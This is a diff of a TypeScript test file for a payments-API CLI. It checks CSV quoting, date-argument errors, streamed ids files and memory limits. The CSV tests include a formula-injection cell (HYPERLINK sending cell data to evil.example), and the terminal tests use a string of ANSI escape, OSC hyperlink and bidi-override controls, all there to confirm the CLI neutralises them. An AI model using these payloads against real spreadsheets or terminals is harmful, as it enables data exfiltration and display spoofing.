@@ -1,13 +1,14 @@
 // The omise-openapi command as a child process: against the partner mock and against a loopback fault
 // server; output formats, exit codes, one-line errors, and never the key.
 import { spawn } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { execa } from 'execa';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { EXIT } from '../src/cli/exit-codes.js';
+import { CONTROL_CHARACTER } from '../src/printable.js';
 import { startMockServer, type MockServer } from '../src/mock/server.js';
 import { CardListServer } from './support/card-list-server.js';
 import { CUSTOMER_ID, TRANSACTION_ID, card, cardPage, transaction } from './support/fixtures.js';
@@ -144,7 +145,7 @@ describe('against a loopback fault server', () => {
     ['--csv-raw without --format csv', ['cards', CUSTOMER_ID, '--csv-raw'], /--csv-raw changes CSV output only: add --format csv/],
     ['--csv-raw with --json', ['transaction', TRANSACTION_ID, '--json', '--csv-raw'], /--csv-raw changes CSV output only/],
     ['--from after --to', ['cards', CUSTOMER_ID, '--from', '2024-02-01T00:00:00Z', '--to', '2024-01-01T00:00:00Z'], /--from is later than --to/],
-    ['a malformed --from', ['cards', CUSTOMER_ID, '--from', 'yesterday'], /'--from <date-time>' argument 'yesterday' is invalid\. expected an ISO 8601 date-time/],
+    ['a malformed --from', ['cards', CUSTOMER_ID, '--from', 'yesterday'], /'--from <date-time>' argument 'yesterday' is invalid\. expected an RFC 3339 date-time/],
     ['a date without a time', ['cards', CUSTOMER_ID, '--to', '2024-01-31'], /'--to <date-time>' argument '2024-01-31' is invalid/],
     ['a 13th month', ['cards', CUSTOMER_ID, '--from', '2024-13-01T00:00:00Z'], /argument '2024-13-01T00:00:00Z' is invalid/],
   ] as Array<[string, string[], RegExp]>)('%s: exit 2 with a clear message, before any request', async (_name, args, message) => {
@@ -163,23 +164,57 @@ describe('against a loopback fault server', () => {
     server.handle(json(200, { ...cardPage(0, 0, 20), data: cards, total: cards.length }));
     const safe = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv']);
     expect(safe.exitCode).toBe(0);
-    for (const cell of ['"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '"\'+1-2"', '"\'@SUM(1)"', '"\'-2+3"', '"\'\tTAB"', '"\'\rCR"']) {
+    // A tab or CR is shown as its escape (no control character reaches the terminal), after the guard.
+    for (const cell of ['"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '"\'+1-2"', '"\'@SUM(1)"', '"\'-2+3"', '"\'\\x09TAB"', '"\'\\x0dCR"']) {
       expect(safe.stdout).toContain(`,${cell},-1,`);
     }
     const raw = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv', '--csv-raw']);
     expect(raw.exitCode).toBe(0);
-    for (const cell of ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '+1-2', '@SUM(1)', '-2+3', '\tTAB', '"\rCR"']) {
+    for (const cell of ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '+1-2', '@SUM(1)', '-2+3', '\\x09TAB', '\\x0dCR']) {
       expect(raw.stdout).toContain(`,${cell},-1,`);
     }
     expect(raw.stdout).not.toContain("'");
   });
 
-  it('CSV escapes commas, quotes and line breaks', async () => {
+  it('CSV quotes commas and quotes, and shows a line break in a cell as its escape', async () => {
     const tricky = { ...card(1), name: 'Doe, "Jay"\nJr', city: 'Bang,kok' };
     server.handle(json(200, { ...cardPage(0, 0, 20), data: [tricky], total: 1 }));
     const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv']);
-    expect(r.stdout).toContain(',"Doe, ""Jay""\nJr",');
+    expect(r.stdout).toContain(',"Doe, ""Jay""\\x0aJr",');
     expect(r.stdout).toContain(',"Bang,kok",');
+  });
+
+  it('server and cardholder text reaches no terminal raw: escapes, C1 controls and bidi controls are shown escaped in every format', async () => {
+    // What a cardholder could type as a name, and a server put in a bank or a transaction key.
+    const hostile = '\u001b]0;owned\u0007\u001b[2J\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u009b31m\u202eRTL\u007f';
+    const cards = [{ ...card(0), name: hostile, bank: hostile, city: hostile }];
+    server.handle(json(200, { ...cardPage(0, 0, 20), data: cards, total: 1 }));
+    const structural: Record<string, RegExp> = { table: /\n/g, json: /\n/g, csv: /\r\n/g };
+    for (const format of ['table', 'json', 'csv', 'csv-raw']) {
+      const args = format === 'csv-raw' ? ['--format', 'csv', '--csv-raw'] : ['--format', format];
+      const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, ...args]);
+      expect(r.exitCode, r.stderr).toBe(0);
+      const body = r.stdout.replace(structural[format.replace('-raw', '')]!, '');
+      expect(body, format).not.toMatch(CONTROL_CHARACTER);
+      expect(r.stderr, format).not.toMatch(CONTROL_CHARACTER);
+    }
+    // JSON escapes them as JSON does: the value read back is the value sent.
+    const json_ = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'json']);
+    expect((JSON.parse(json_.stdout) as Array<{ name: string }>)[0]?.name).toBe(hostile);
+    server.handle(json(200, { ...transaction(), key: hostile, origin: hostile }));
+    for (const format of ['table', 'json', 'csv']) {
+      const one = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID, '--format', format]);
+      expect(one.stdout.replace(/\r?\n/g, ''), format).not.toMatch(CONTROL_CHARACTER);
+      const bulk = await cli(['--base-url', server.url, 'transactions', TRANSACTION_ID, '--format', format]);
+      expect(bulk.stdout.replace(/\r?\n/g, ''), format).not.toMatch(CONTROL_CHARACTER);
+    }
+  });
+
+  it('an error message from the server reaches stderr without its control characters', async () => {
+    server.handle(omiseError(404, 'not_found', 'no \u001b[2J such \u202e thing \u009b'));
+    const r = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID]);
+    expect(r.exitCode).toBe(EXIT.notFound);
+    expect(r.stderr.trimEnd()).not.toMatch(CONTROL_CHARACTER);
   });
 
   it('cards --all over 250 cards, 3 pages at once: every row in order, progress as "n of total"', async () => {
@@ -378,6 +413,89 @@ describe('against a loopback fault server', () => {
         rmSync(dir, { recursive: true, force: true });
       }
     });
+
+    // Files in a folder of their own, removed whatever happens.
+    async function withFile<T>(name: string, content: string | Buffer | null, use: (path: string, dir: string) => Promise<T>): Promise<T> {
+      const dir = mkdtempSync(join(tmpdir(), 'omise-ids-'));
+      const path = join(dir, name);
+      if (content !== null) writeFileSync(path, content);
+      try {
+        return await use(path, dir);
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
+    }
+    const rowIds = (stdout: string): string[] => (JSON.parse(stdout) as Array<{ id: string }>).map((x) => x.id);
+
+    it('--ids-file with CR-only line ends (Excel for Mac), CRLF and LF mixed: every id on its own row', async () => {
+      server.handle(byId);
+      await withFile('ids.csv', 'trxn_test_aaa1\rtrxn_test_aaa2\r\ntrxn_test_aaa3\n# note\rtrxn_test_aaa4\r', async (file) => {
+        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file, '--format', 'json']);
+        expect(r.exitCode, r.stderr).toBe(0);
+        expect(rowIds(r.stdout)).toEqual(['trxn_test_aaa1', 'trxn_test_aaa2', 'trxn_test_aaa3', 'trxn_test_aaa4']);
+      });
+    });
+
+    it('--ids-file is streamed: 60 MB of blank lines runs in a 32 MB heap, with no request and no row', async () => {
+      const before = server.requests.length;
+      await withFile('blank.txt', Buffer.alloc(60 * 1024 * 1024, 0x0a), async (file) => {
+        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file, '--format', 'json'], { NODE_OPTIONS: '--max-old-space-size=32' });
+        expect(r.exitCode, r.stderr.slice(0, 500)).toBe(0);
+        expect(JSON.parse(r.stdout)).toEqual([]);
+      });
+      expect(server.requests.length).toBe(before);
+    });
+
+    it('--ids-file with a line no id could fill (8 MB without a line end): a usage error naming the line', async () => {
+      await withFile('one-line.txt', `trxn_test_aaa1\n${'x'.repeat(8 * 1024 * 1024)}`, async (file) => {
+        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file]);
+        expect(r.exitCode).toBe(EXIT.usage);
+        expect(r.stderr).toMatch(/line 2 of .* is longer than 1024 characters/);
+      });
+    });
+
+    it('--ids-file naming a directory or no file: a usage error (2), not a crash', async () => {
+      await withFile('missing.txt', null, async (file, dir) => {
+        const folder = await cli(['--base-url', server.url, 'transactions', '--ids-file', dir]);
+        expect(folder.exitCode).toBe(EXIT.usage);
+        expect(folder.stderr).toMatch(/--ids-file .* is a directory/);
+        const missing = await cli(['--base-url', server.url, 'transactions', '--ids-file', file]);
+        expect(missing.exitCode).toBe(EXIT.usage);
+        expect(missing.stderr).toMatch(/--ids-file .* does not exist/);
+      });
+    });
+
+    it("an answer for another id is never printed on this id's row: the row says invalid_response, exit 6", async () => {
+      // A mixed-up cache: every id is answered with the transaction of the other.
+      server.handle((req, res, i) => {
+        const asked = req.url?.split('/').pop() ?? '';
+        const other = asked === 'trxn_test_aaa1' ? 'trxn_test_aaa2' : 'trxn_test_aaa1';
+        return json(200, { ...transaction(), id: other, location: `/transactions/${other}` })(req, res, i);
+      });
+      const r = await cli(['--base-url', server.url, 'transactions', 'trxn_test_aaa1', 'trxn_test_aaa2', '--format', 'csv']);
+      expect(r.exitCode).toBe(EXIT.partial);
+      const rows = r.stdout.trimEnd().split('\r\n').slice(1);
+      expect(rows.map((row) => row.split(',').slice(0, 2).join(','))).toEqual(['trxn_test_aaa1,invalid_response', 'trxn_test_aaa2,invalid_response']);
+      // No transaction field was written on either row.
+      expect(rows.every((row) => !row.includes(',transaction,'))).toBe(true);
+    });
+
+    it('--mock with 100 000 ids: memory stays bounded (it kept about 1.9 KB a call until the batch ended: 577 MB)', async () => {
+      await withFile('ids.txt', Array.from({ length: 100_000 }, (_, i) => (i % 2 ? `trxn_test_missing${i}` : TRANSACTION_ID)).join('\n'), async (file, dir) => {
+        const rssFile = join(dir, 'max-rss');
+        const r = await execa(process.execPath, ['--import', './test/support/max-rss.mjs', ...CLI, '--mock', 'transactions', '--ids-file', file, '--format', 'csv'], {
+          cwd: ROOT,
+          reject: false,
+          env: { MAX_RSS_FILE: rssFile },
+          timeout: 120_000,
+        });
+        expect(r.exitCode, r.stderr.slice(-500)).toBe(EXIT.partial);
+        expect(r.stdout.trimEnd().split('\r\n')).toHaveLength(100_001);
+        // The built CLI peaks at 112 MB on Node 22 and 123 MB on Node 24, 158 MB on Node 20 (its V8
+        // lets garbage grow further before a full collection); tsx adds about 35 MB. Far below 577.
+        expect(Number(readFileSync(rssFile, 'utf8')) / 1024).toBeLessThan(300);
+      });
+    }, 180_000);
 
     it('ids on standard input, JSON out, exit 0 when all succeed', async () => {
       server.handle(byId);
